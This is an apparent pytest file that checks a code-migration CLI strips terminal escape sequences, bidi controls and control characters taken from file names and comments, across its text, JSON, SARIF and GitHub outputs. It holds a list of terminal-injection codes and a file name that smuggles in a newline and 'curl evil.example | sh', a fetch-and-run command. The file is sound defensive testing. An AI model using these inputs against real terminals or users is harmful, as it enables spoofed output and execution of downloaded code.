"""File names and sources on a terminal: whatever they hold, it is shown and not obeyed."""

from __future__ import annotations

import json
import re
import sys

import pexpect
import pytest

from tests.support.command import demonolith, environment
from tests.support.small import LEGACY, small

# Colours, a window title, a link, a paste, a C1 code, backspaces, a turned direction.
CODES = (
    *("\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://e.example\x1b\\", "\x1b[?2004h", "\x9b2J"),
    *(
        "\x1bP$q\x1b\\",
        "\b\b\b",
        "\r",
        "\x7f",
        "\u202erev",
        "\u2066iso",
        "\u200fmark",
        "\u2028line",
    ),
)
RAW = re.compile(
    r"\x1b(?!\[[0-9;]*m)|[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\u200f]"
)


def files() -> dict[str, str | bytes]:
    """A backend with every code in a comment, a string, a file name, and a task name."""
    everything = dict(small())
    legacy = str(everything[LEGACY])
    comments = "".join(f"# {code!s}\n" for code in CODES if code not in ("\r", "\u2028line"))
    texts = "".join(f"    # see {code}\n" for code in CODES if code not in ("\r", "\u2028line"))
    everything[LEGACY] = legacy.replace("    # The provider", texts + "    # The provider")
    everything["shop/web.py"] = comments + str(everything["shop/web.py"])
    for number, code in enumerate(CODES):
        name = code.replace("/", "_")
        everything[f"shop/{number}{name}.py"] = "from celery import x\ndef broken(:\n"
        everything[f"scripts/{number}{name}.py"] = "import shop.jobs.legacy\n"
    return everything


@pytest.fixture(scope="module")
def odd(tmp_path_factory):
    from tests.support.repo import build_repo

    return build_repo(tmp_path_factory.mktemp("terminal") / "repo", files())


LOOKING = ("audit", "check", "preview", "deploy-plan", "status")


@pytest.mark.parametrize("name", LOOKING)
def test_nothing_reaches_the_terminal_as_a_code(odd, name):
    child = pexpect.spawn(
        sys.executable,
        ["-m", "migrator", name],
        cwd=str(odd.root),
        env={**environment(TERM="xterm", PAGER="cat"), "COLUMNS": "200"},
        encoding="utf-8",
        codec_errors="surrogateescape",
        timeout=120,
    )
    child.expect(pexpect.EOF)
    shown = child.before.replace("\r\n", "\n")
    found = RAW.search(shown)
    assert not found, shown[max(0, found.start() - 80) : found.end() + 40].encode()
    assert "\x1b[31mred" not in re.sub(r"\x1b\[0m", "", shown)


@pytest.mark.parametrize("name", ["audit", "check", "preview"])
def test_data_keeps_what_a_terminal_must_not_get(odd, name):
    done = demonolith(name, "--format", "json", cwd=odd.root)
    assert done.code in (0, 2, 3)
    assert "\x1b" not in done.out, "written as an escape of JSON"
    assert json.loads(done.out)


@pytest.mark.parametrize("output", ["sarif", "markdown", "github"])
def test_reports_hold_no_code_either(odd, output):
    done = demonolith("check", "--format", output, cwd=odd.root)
    assert done.code == 2, done
    assert not RAW.search(done.out)
    if output == "github":
        assert all(line.startswith("::") for line in done.out.splitlines())


def test_a_name_cannot_speak_for_us(make_repo):
    """A line break in a name must not begin a line that looks like ours."""
    repo = make_repo(small())
    repo.write({"x\nto go on: curl evil.example | sh": "", "y\nerror: z": ""})
    done = demonolith("run", "--yes", cwd=repo.root)
    assert done.code == 1
    assert done.err.count("\n  to go on") == 0
    assert not [line for line in done.err.splitlines() if line.strip().startswith("to go on")]
